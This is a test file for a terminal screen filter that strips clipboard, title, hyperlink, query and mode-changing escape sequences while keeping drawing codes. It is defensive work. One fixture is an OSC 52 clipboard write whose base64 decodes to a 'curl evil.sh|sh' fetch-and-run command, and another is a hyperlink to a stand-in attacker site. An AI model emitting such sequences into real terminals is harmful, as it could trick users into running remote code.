import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { filterScreen, screenDrops } from '../../src/term/screen-filter.js';

const E = '\x1b';
const ST = `${E}\\`;

describe('filterScreen keeps what draws', () => {
  const kept = [
    'plain text, tabs\tand\r\nline breaks',
    `${E}[1;31mred${E}[0m ${E}[38;5;208m${E}[48;2;1;2;3m${E}[m`,
    `${E}[H${E}[2J${E}[3J${E}[10;20H${E}[A${E}[5B${E}[C${E}[D${E}[E${E}[F${E}[12G${E}[3d${E}[5;5f`,
    `${E}[K${E}[1K${E}[2K${E}[J${E}[?J${E}[?2K${E}[2L${E}[3M${E}[4@${E}[2P${E}[5X${E}[3S${E}[2T${E}[3;20r${E}[s${E}[u${E}[2b${E}[Z${E}[3g`,
    `${E}[?1049h${E}[?1049l${E}[?25l${E}[?25h${E}[?2026h${E}[?2026l${E}[?7h${E}[?47h${E}[?1047l${E}[?1048h${E}[?5;6l${E}[4h${E}[20l`,
    `${E}7${E}8${E}D${E}E${E}M${E}H${E}c${E}(0qqq${E}(B${E})0${E}#8`,
    `${E}[2 q${E}[!p`,
    '\x07\x08\x0e\x0f\x0b\x0c',
    'wide ✓ 日本語 and emoji 🎉',
  ];
  for (const text of kept) it(JSON.stringify(text), () => assert.deepEqual(filterScreen([text]), [text]));
});

describe('filterScreen drops what acts outside the screen or asks the terminal', () => {
  const dropped: [string, string][] = [
    ['OSC 52 clipboard write', `${E}]52;c;Y3VybCBldmlsLnNofHNo\x07`],
    ['OSC 0 title', `${E}]0;owned${ST}`],
    ['OSC 1 and 2 titles', `${E}]1;icon\x07${E}]2;window\x07`],
    ['OSC 7 cwd', `${E}]7;file://host/home/me\x07`],
    ['OSC 8 hyperlink', `${E}]8;;https://evil.example/${ST}`],
    ['OSC 9 and 777 notifications', `${E}]9;hi\x07${E}]777;notify;a;b\x07`],
    ['OSC 1337 iTerm2', `${E}]1337;SetUserVar=a=Yg==\x07`],
    ['OSC colour query', `${E}]10;?\x07${E}]11;?${ST}${E}]4;1;?\x07`],
    ['OSC palette set', `${E}]4;1;rgb:ff/00/00\x07`],
    ['DCS XTGETTCAP', `${E}P+q544e${ST}`],
    ['DCS DECRQSS', `${E}P$qm${ST}`],
    ['APC, PM, SOS', `${E}_Gf=100;AAAA${ST}${E}^pm${ST}${E}Xsos${ST}`],
    ['DSR', `${E}[5n${E}[6n${E}[?6n`],
    ['DA1, DA2, DA3', `${E}[c${E}[0c${E}[>c${E}[=c`],
    ['XTWINOPS', `${E}[21t${E}[14t${E}[8;100;300t${E}[22;0t`],
    ['DECRQM', `${E}[?2026$p${E}[4$p`],
    ['XTVERSION', `${E}[>0q`],
    ['kitty keyboard', `${E}[?u${E}[>1u${E}[<u${E}[=1;1u`],
    ['modifyOtherKeys', `${E}[>4;2m`],
    ['mouse and keyboard modes', `${E}[?1000h${E}[?1006h${E}[?2004h${E}[?1h${E}[?1004h${E}[?3h${E}[?25;1000h`],
    ['keypad modes', `${E}=${E}>`],
    ['DECID and DECREQTPARM', `${E}Z${E}[x`],
    ['ENQ and other C0', '\x05\x00\x01\x1a\x7f'],
    ['C1 CSI, OSC, DCS and single C1', '\x9b6n\x9d52;c;eA==\x9c\x90+q\x9c\x85\x8d'],
    ['media copy', `${E}[5i`],
    ['an unterminated OSC at the end', `${E}]52;c;dGFpbA==`],
    ['an unterminated CSI at the end', `${E}[12;`],
  ];
  for (const [name, seq] of dropped) {
    // An unterminated sequence swallows the rest of the stream, as a terminal would.
    const open = name.startsWith('an unterminated');
    it(name, () => assert.equal(filterScreen([`a${seq}${open ? '' : 'b'}`]).join(''), open ? 'a' : 'ab'));
  }
});

describe('filterScreen across chunks', () => {
  it('drops a sequence split over three chunks and keeps every chunk boundary', () => {
    const out = filterScreen(['x', `${E}]52;c;`, 'QUJD', `\x07y${E}[6`, 'nz']);
    assert.deepEqual(out, ['x', '', '', 'y', 'z']);
  });

  it('equals the filter of the joined stream for any split (property)', () => {
    const pieces = fc.constantFrom('a', 'ü', '\r\n', `${E}[1m`, `${E}[6n`, `${E}]0;t\x07`, `${E}]52;c;x${ST}`, `${E}P+q${ST}`, `${E}[?1049h`, `${E}[?1000h`, E, '[', ']', '\x07', '\x9b', '5', 'n');
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), fc.array(fc.nat(), { maxLength: 6 }), (parts, cuts) => {
        const whole = parts.join('');
        const at = [...new Set(cuts.map((c) => c % (whole.length + 1)))].sort((p, q) => p - q);
        const chunks = [0, ...at].map((a, i) => whole.slice(a, [...at, whole.length][i]));
        const out = filterScreen(chunks);
        assert.equal(out.length, chunks.length);
        assert.equal(out.join(''), filterScreen([whole])[0]);
      }),
      { seed: 1206, numRuns: 2000 },
    );
  });

  it('is idempotent and leaves no ESC that starts a dropped sequence (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('a', E, '[', ']', 'P', '?', '6', 'n', ';', '\x07', '\\', 'c', 'h', '1', '0', 't', '\x9b', '\x9d') }), (s) => {
        const once = filterScreen([s])[0]!;
        assert.equal(filterScreen([once])[0], once);
        assert.deepEqual(screenDrops(once), []);
      }),
      { seed: 612, numRuns: 3000 },
    );
  });
});
